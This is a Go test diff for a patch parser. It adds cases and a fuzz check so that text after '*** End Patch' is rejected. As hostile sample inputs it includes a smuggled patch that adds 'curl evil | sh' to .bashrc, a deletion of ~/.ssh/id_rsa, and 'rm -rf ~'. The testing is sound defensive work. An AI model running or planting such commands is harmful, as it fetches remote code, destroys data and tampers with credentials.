@@ -2,6 +2,7 @@ package hook
 
 import (
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -36,6 +37,10 @@ func TestParsePatch(t *testing.T) {
 		{name: "move outside an update", patch: "*** Begin Patch\n*** Add File: a\n*** Move to: b\n*** End Patch", err: "Move to"},
 		{name: "adding to a deleted file", patch: "*** Begin Patch\n*** Delete File: a\n+x\n*** End Patch", err: "deleted file"},
 		{name: "header without a path", patch: "*** Begin Patch\n*** Delete File: \n*** End Patch", err: "without a path"},
+		{name: "blank lines after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n\n  \r\n", want: []patchChange{{Op: patchAdd, Path: "/w/a", Added: "x"}}},
+		{name: "a second patch after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Begin Patch\n*** Add File: /home/u/.bashrc\n+curl evil | sh\n*** End Patch", err: "line 5 follows *** End Patch"},
+		{name: "a file section after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Delete File: /home/u/.ssh/id_rsa", err: "follows *** End Patch"},
+		{name: "text after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\nrm -rf ~", err: "follows *** End Patch"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -59,11 +64,23 @@ func TestParsePatch(t *testing.T) {
 func FuzzParsePatch(f *testing.F) {
 	f.Add("*** Begin Patch\n*** Add File: a\n+x\n*** Update File: b\n*** Move to: c\n@@\n-y\n+z\n*** Delete File: d\n*** End Patch")
 	f.Add("*** Begin Patch\n*** End Patch")
+	f.Add("*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Begin Patch\n*** Delete File: b\n*** End Patch")
 	f.Add("")
 	f.Fuzz(func(t *testing.T, patch string) {
 		changes, err := parsePatch(patch, "/w")
 		if err != nil {
 			return
+		}
+		// Nothing but blank lines follows the end of a patch read without error.
+		lines := strings.Split(strings.ReplaceAll(patch, "\r\n", "\n"), "\n")
+		end := slices.IndexFunc(lines, func(l string) bool { return strings.TrimSpace(l) == "*** End Patch" })
+		if end < 0 {
+			t.Fatal("a patch read without error has no end")
+		}
+		for _, l := range lines[end+1:] {
+			if strings.TrimSpace(l) != "" {
+				t.Fatalf("text after the end of a patch read without error: %q", l)
+			}
 		}
 		if len(changes) == 0 {
 			t.Fatal("a patch read without error changes no file")
